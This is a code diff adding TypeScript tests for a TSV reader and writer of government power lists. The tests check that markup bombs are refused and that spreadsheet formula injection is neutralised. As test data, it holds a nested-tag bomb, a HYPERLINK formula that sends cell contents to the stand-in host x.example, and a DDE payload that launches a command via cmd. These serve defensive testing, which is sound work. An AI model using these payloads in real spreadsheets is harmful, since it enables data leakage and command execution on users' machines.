@@ -359,3 +359,56 @@ describe('readPowerListTsv performance', () => {
     expect(cpuMs).toBeLessThan(5_000);
   });
 });
+
+describe('readPowerListTsv and runaway markup (issue 9)', () => {
+  it('refuses a cell of 200,000 nested <b>, naming its row and cell', () => {
+    const bomb = `${'<b>'.repeat(200_000)}x${'</b>'.repeat(200_000)}`;
+    const error = readError(`标题\n序号\t权力分类\t项目名称\t实施依据\n1\t行政检查\t名称\t${bomb}\n`);
+    expect(error.code).toBe('malformed-file');
+    expect(error.message).toBe(
+      '第 3 行第 4 个单元格：单元格中的 HTML 标记超过 20000 个，不像是清单内容，无法导入；请清除该单元格的格式后重新导出。',
+    );
+    expect(error.location).toEqual({ line: 3, column: 4 });
+  });
+
+  it('refuses nesting too deep in a header-like or title line as well', () => {
+    const deep = `${'<i>'.repeat(150)}序号${'</i>'.repeat(150)}`;
+    expect(readError(`${deep}\t权力分类\t项目名称\n`).message).toMatch(/^第 1 行第 1 个单元格：单元格中的 HTML 标记嵌套超过 100 层/);
+  });
+});
+
+describe('writePowerListTsv against formula injection (issue 9)', () => {
+  const base = bundled.items[0];
+  if (base === undefined) throw new Error('the bundled list has items');
+  const hostile = ['=HYPERLINK("http://x.example/?"&A1,"点此")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1,2)', "'=already quoted"];
+
+  it('writes every plain cell that a spreadsheet would run as a formula with a leading quote, and reads it back unchanged', () => {
+    const list = {
+      title: '=1+1',
+      items: hostile.map((name, index) => ({
+        ...base,
+        no: index + 1,
+        name,
+        subItem: '@子项',
+        extraFields: [{ header: '-编码', value: '=cmd' }],
+      })),
+    };
+    const written = writePowerListTsv(list);
+    for (const line of written.split('\n')) {
+      for (const cell of line.split('\t')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(written).toContain("\t'=HYPERLINK(");
+    expect(written).toContain("\t'@子项\t");
+    expect(written.split('\n')[2]).toBe("'=1+1");
+    const read = readPowerListTsv(utf8(written));
+    expect(read.title).toBe('=1+1');
+    expect(read.items.map((item) => [item.name, item.subItem, item.extraFields])).toEqual(
+      hostile.map((name) => [name, '@子项', [{ header: '-编码', value: '=cmd' }]]),
+    );
+  });
+
+  it('leaves <p> cells alone: they begin with <', () => {
+    const list = { title: 't', items: [{ ...base, note: '=不是公式的备注\n第二段' }] };
+    expect(writePowerListTsv(list)).toContain('<p>=不是公式的备注</p> <p>第二段</p>');
+  });
+});
